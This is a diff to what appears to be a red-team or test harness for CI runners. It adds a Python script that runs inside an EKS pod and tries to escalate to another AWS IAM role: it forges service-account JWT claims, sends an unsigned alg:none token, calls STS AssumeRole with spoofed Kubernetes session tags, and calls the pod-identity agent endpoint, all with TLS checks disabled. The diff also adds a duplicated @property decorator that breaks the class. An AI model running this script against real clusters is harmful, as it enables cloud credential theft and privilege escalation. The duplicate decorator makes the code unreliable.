@@ -82,6 +82,61 @@ ask("PUT", f"/v2/{target}/manifests/{tag}", json.dumps(manifest).encode(), manif
 print("the cache is doctored")
 """
 
+# Tries every way from a job's own identity to another role, and prints the results. The arguments are the region, the
+# role's ARN, the namespace of the service account that it is for, and the cluster.
+ASSUME = r"""
+import base64, json, os, ssl, sys, urllib.error, urllib.parse, urllib.request
+
+region, role, namespace, cluster = sys.argv[1:]
+token = os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
+
+def ask(what, url, data=None, headers={}):
+    try:
+        request = urllib.request.Request(url, data, headers)
+        answer = urllib.request.urlopen(request, context=ssl._create_unverified_context()).read().decode()
+    except urllib.error.HTTPError as error:
+        answer = f"refused with {error.code}: {error.read().decode()}"
+    print(what, "-", " ".join(answer.split()), flush=True)
+    return answer
+
+def agent(what, shown):
+    return ask(what, os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"], headers={"Authorization": shown})
+
+def encoded(claims):
+    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
+
+own = json.loads(agent("my own token", token))
+head, claims, signature = token.split(".")
+claims = json.loads(base64.urlsafe_b64decode(claims + "=="))
+claims["kubernetes.io"]["namespace"] = namespace
+claims["sub"] = f"system:serviceaccount:{namespace}:builds"
+agent("a forged token", f"{head}.{encoded(claims)}.{signature}")
+agent("an unsigned token", f"{encoded({'alg': 'none'})}.{encoded(claims)}.")
+
+def signed(service):
+    key = f"{own['AccessKeyId']}/20260101/{region}/{service}/aws4_request"
+    return {
+        "Authorization": f"AWS4-HMAC-SHA256 Credential={key}, SignedHeaders=host, Signature=0",
+        "X-Amz-Security-Token": own["Token"],
+    }
+
+def sts(what, action, **parameters):
+    form = {"Action": action, "Version": "2011-06-15", "RoleSessionName": "evil", "RoleArn": role, **parameters}
+    headers = {**signed("sts"), "Content-Type": "application/x-www-form-urlencoded"}
+    ask(what, f"https://sts.{region}.amazonaws.com/", urllib.parse.urlencode(form).encode(), headers)
+
+sts("who am I", "GetCallerIdentity")
+sts("the other role", "AssumeRole")
+tags = {"kubernetes-namespace": namespace, "kubernetes-service-account": "builds"}
+tags["eks-cluster-arn"] = f"arn:aws:eks:{region}:{role.split(':')[4]}:cluster/{cluster}"
+numbered = {f"Tags.member.{n}.{k}": v for n, pair in enumerate(tags.items(), 1) for k, v in zip(("Key", "Value"), pair)}
+sts("the other role with a pod's tags", "AssumeRole", **numbered)
+sts("the other role by my token", "AssumeRoleWithWebIdentity", WebIdentityToken=token)
+body = json.dumps({"token": token}).encode()
+headers = {**signed("eks-auth"), "Content-Type": "application/json"}
+ask("as the agent", f"https://eks-auth.{region}.api.aws/clusters/{cluster}/assume-role-for-pod-identity", body, headers)
+"""
+
 
 @dataclass(frozen=True, kw_only=True)
 class Attacker:
@@ -96,6 +151,7 @@ class Attacker:
         """The tags of the runner that takes jobs of unprotected refs."""
         return ["amd64", "linux", *(["unprotected"] if self.trust is Trust.ISOLATED else [])]
 
+    @property
     @property
     def repository(self) -> str:
         """The released image's repository."""
